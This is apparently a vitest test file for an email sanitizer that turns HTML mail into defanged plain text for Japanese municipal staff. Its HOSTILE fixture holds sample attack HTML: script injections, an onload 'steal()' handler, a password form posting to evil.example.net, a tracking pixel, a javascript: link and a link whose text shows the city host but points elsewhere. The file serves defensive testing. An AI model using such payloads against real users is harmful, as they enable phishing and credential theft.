import { describe, expect, it } from 'vitest';
import { defangText, defangUrl } from '../../src/core/defang.js';
import { violations } from '../helpers/conformance.js';
import { b64, eml, policyWith, run } from '../helpers/run.js';

const htmlMail = (html: string, text?: string): Buffer => {
  const headers = ['From: news@example.com', 'To: staff@city.example.lg.jp', 'Subject: html', 'Date: Thu, 26 Nov 2026 10:00:00 +0900', 'MIME-Version: 1.0'];
  if (text === undefined) {
    return eml([...headers, 'Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: base64'], b64(html));
  }
  const body = [
    '--alt',
    'Content-Type: text/plain; charset=utf-8',
    'Content-Transfer-Encoding: base64',
    '',
    b64(text),
    '--alt',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: base64',
    '',
    b64(html),
    '--alt--',
    '',
  ].join('\r\n');
  return eml([...headers, 'Content-Type: multipart/alternative; boundary="alt"'], body);
};

const HOSTILE = `<!doctype html><html><head><title>t</title><style>.x{color:red}</style>
<script>alert('x')</script><meta http-equiv="refresh" content="0;url=https://evil.example.net/"></head>
<body onload="steal()"><h1>お知らせ</h1><p>本文です。<b>重要</b></p>
<form action="https://evil.example.net/post"><input name="pw" type="password"><button>送信</button></form>
<iframe src="https://evil.example.net/frame"></iframe><object data="x.swf"></object><embed src="y.swf">
<img src="https://track.example.com/open.gif?id=1" width="1" height="1">
<img src="https://cdn.example.com/p.jpg" alt="会場の写真">
<a href="https://www.example.jp/path?q=1">詳細はこちら</a>
<a href="javascript:alert(1)">クリック</a>
<a href="https://www.city.example.lg.jp/login">https://www.city.example.lg.jp/login</a>
<a href="https://evil.example.net/login">https://www.city.example.lg.jp/login</a>
<svg><script>alert(2)</script></svg><noscript>noscript text</noscript>
<table><tr><th>項目</th><td>値</td></tr></table></body></html>`;

describe('HTML bodies', () => {
  it('become text with no tag, script, style or form left', async () => {
    const o = await run(htmlMail(HOSTILE));
    const text = o.mail!.text!;
    expect(text).not.toMatch(/<[a-z!/][^>]*>/i);
    expect(text).not.toContain('alert');
    expect(text).not.toContain('color:red');
    expect(text).not.toContain('noscript text');
    expect(text).toContain('お知らせ');
    expect(text).toContain('本文です。重要');
    expect(text).toContain('項目');
    expect(o.mail!.html).toBe(false);
    expect(o.codes).toEqual(expect.arrayContaining(['html-converted', 'active-content-removed', 'remote-image-removed', 'link-defanged']));
    expect(await violations(o.raw!)).toEqual([]);
  });

  it('show images as [画像: alt] and drop remote images', async () => {
    const o = await run(htmlMail(HOSTILE));
    expect(o.mail!.text).toContain('[画像: 会場の写真]');
    expect(o.mail!.text).not.toContain('track.example.com');
    expect(o.result.findings.find((f) => f.code === 'remote-image-removed')?.detail).toBe('2');
  });

  it('show every link inert, next to its text', async () => {
    const o = await run(htmlMail(HOSTILE));
    const text = o.mail!.text!;
    expect(text).toContain('詳細はこちら [hxxps://www[.]example[.]jp/path?q=1]');
    expect(text).not.toMatch(/https?:\/\//);
    expect(text).not.toContain('javascript:');
  });

  it('disclose a link whose text names another host, with a warning line', async () => {
    const o = await run(htmlMail(HOSTILE));
    const text = o.mail!.text!;
    expect(text).toContain('[hxxps://evil[.]example[.]net/login]');
    expect(text).toMatch(/\[警告\] このリンクは表示上「www\[\.\]city\[\.\]example\[\.\]lg\[\.\]jp」ですが、実際のリンク先は「evil\[\.\]example\[\.\]net」です/);
    const mismatches = o.result.findings.filter((f) => f.code === 'link-text-mismatch');
    // The honest link to the same host is not flagged.
    expect(mismatches).toEqual([{ code: 'link-text-mismatch', detail: 'www.city.example.lg.jp -> evil.example.net' }]);
  });

  it('warn in English when the policy says so', async () => {
    const o = await run(htmlMail(HOSTILE), policyWith({ language: 'en' }));
    expect(o.mail!.text).toContain('[WARNING] This link shows "www[.]city[.]example[.]lg[.]jp" but leads to "evil[.]example[.]net"');
    expect(o.mail!.text).toContain('[image: 会場の写真]');
    expect(o.mail!.text).toContain('[Sanitization notice]');
  });

  it('multipart/alternative whose parts disagree shows the HTML text and says so', async () => {
    const o = await run(htmlMail('<p>口座番号を変更しました。新しい口座へ振り込んでください。</p>', '今月のお知らせはありません。'));
    expect(o.mail!.text).toContain('口座番号を変更しました。');
    expect(o.mail!.text).not.toContain('今月のお知らせはありません。');
    expect(o.codes).toContain('alternative-mismatch');
    expect(o.mail!.text).toContain('本文のテキスト版と HTML 版の内容が違っていたため、HTML 版を表示しています。');
  });

  it('multipart/alternative whose parts agree is not flagged', async () => {
    const o = await run(
      htmlMail(
        '<html><body><p>令和8年度の説明会を<b>5月20日</b>に開催します。</p><p>詳しくは<a href="https://www.pref.example.jp/">県のページ</a>をご覧ください。</p></body></html>',
        '令和8年度の説明会を5月20日に開催します。\n詳しくは県のページ（https://www.pref.example.jp/）をご覧ください。',
      ),
    );
    expect(o.codes).toContain('html-converted');
    expect(o.codes).not.toContain('alternative-mismatch');
  });
});

describe('links in text', () => {
  it('are defanged in plain-text bodies too', async () => {
    const o = await run(
      eml(
        ['From: a@example.jp', 'To: b@city.example.lg.jp', 'Subject: s', 'Date: Thu, 26 Nov 2026 10:00:00 +0900', 'Content-Type: text/plain; charset=utf-8'],
        'こちら（https://www.example.jp/a?b=c）と www.example.com と ftp://files.example.jp/x をどうぞ。',
      ),
    );
    expect(o.mail!.text).toContain('こちら（hxxps://www[.]example[.]jp/a?b=c）と www[.]example[.]com と fxp://files[.]example[.]jp/x');
    expect(o.result.findings).toContainEqual({ code: 'link-defanged', detail: '3' });
  });

  it('defangUrl keeps path and query and brackets only the authority', () => {
    expect(defangUrl('https://user@www.example.jp:8443/a.b/c?d=e.f')).toBe('hxxps://user@www[.]example[.]jp:8443/a.b/c?d=e.f');
    expect(defangUrl('mailto:x@example.jp')).toBe('mailto:x@example.jp');
    expect(defangText('no links here').count).toBe(0);
  });
});

describe('HTML tables stay tables', () => {
  // What Gmail sends when a citizen pastes three rows from a spreadsheet into an inquiry.
  const GMAIL_TABLE = `<div dir="ltr">土木課 御中<div><br></div><div>道路に穴があいているのを見つけましたので連絡します。</div><div><br></div>
<table cellspacing="0" cellpadding="0" dir="ltr" border="1" style="table-layout:fixed;font-size:10pt;font-family:Arial;width:0px;border-collapse:collapse;border:none" data-sheets-root="1"><colgroup><col width="100"><col width="245"></colgroup><tbody>
<tr style="height:21px"><td style="border:1px solid rgb(204,204,204);overflow:hidden;padding:2px 3px;vertical-align:bottom">場所</td><td style="border:1px solid rgb(204,204,204);overflow:hidden;padding:2px 3px;vertical-align:bottom">見本町3丁目の交差点（郵便局の前）</td></tr>
<tr style="height:21px"><td style="border:1px solid rgb(204,204,204)">大きさ</td><td style="border:1px solid rgb(204,204,204)">直径30cmくらい、深さ5cmくらい</td></tr>
<tr style="height:21px"><td style="border:1px solid rgb(204,204,204)">気づいた日</td><td style="border:1px solid rgb(204,204,204)">12月5日（土）の朝</td></tr>
</tbody></table><div><br></div><div>よろしくお願いいたします。</div><div><br></div><span class="gmail_signature_prefix">-- </span><br><div dir="ltr" class="gmail_signature">山田 花子</div></div>`;

  it('a Gmail inquiry keeps its rows, aligned with East Asian characters counted as two columns', async () => {
    const o = await run(
      htmlMail(
        GMAIL_TABLE,
        '土木課 御中\n\n道路に穴があいているのを見つけましたので連絡します。\n\n場所 見本町3丁目の交差点（郵便局の前）\n大きさ 直径30cmくらい、深さ5cmくらい\n気づいた日 12月5日（土）の朝\n\nよろしくお願いいたします。\n\n-- \n山田 花子\n',
      ),
    );
    expect(await violations(o.raw!)).toEqual([]);
    const text = o.mail!.text!;
    expect(text).toContain(['場所         見本町3丁目の交差点（郵便局の前）', '大きさ       直径30cmくらい、深さ5cmくらい', '気づいた日   12月5日（土）の朝'].join('\n'));
    expect(text).toContain('連絡します。\n\n場所');
    expect(text).toContain('の朝\n\nよろしく');
    // The text part says the same: no alternative-mismatch.
    expect(o.codes).not.toContain('alternative-mismatch');
  });

  it('header cells, row and column spans, links inside cells', async () => {
    const html = `<table><tr><th>日時</th><th>会場</th><th>定員</th></tr>
<tr><td>5月22日 10:00</td><td rowspan="2">市役所 第1会議室</td><td>30名</td></tr>
<tr><td>5月23日 14:00</td><td>20名</td></tr>
<tr><td colspan="3">申込み: <a href="https://www.example.jp/form">申込フォーム</a></td></tr></table>`;
    const o = await run(htmlMail(html));
    expect(o.mail!.text).toContain(
      ['日時            会場               定員', '5月22日 10:00   市役所 第1会議室   30名', '5月23日 14:00                      20名', '申込み: 申込フォーム [hxxps://www[.]example[.]jp/form]'].join(
        '\n',
      ),
    );
  });

  it('a table too wide for a line becomes one cell per line; with a header row, "見出し: 値"', async () => {
    const long = '見本県見本市見本町一丁目二番三号 見本ビル四階 総合受付窓口';
    const o = await run(
      htmlMail(
        `<table><tr><th>名称</th><th>所在地</th><th>電話</th></tr><tr><td>見本センター</td><td>${long}</td><td>000-0000-0000</td></tr></table><table><tr><td>A列</td><td>${long}</td><td>${long}</td></tr></table>`,
      ),
    );
    expect(o.mail!.text).toContain(`名称: 見本センター\n所在地: ${long}\n電話: 000-0000-0000`);
    expect(o.mail!.text).toContain(`A列\n${long}\n${long}`);
  });

  it('a layout table (tables in tables, as newsletters are built) shows each cell on its own line', async () => {
    const o = await run(htmlMail('<table><tr><td><table><tr><td>左の記事</td></tr></table></td><td>右の記事</td></tr></table>'));
    expect(o.mail!.text).toMatch(/左の記事\n+右の記事/);
  });
});
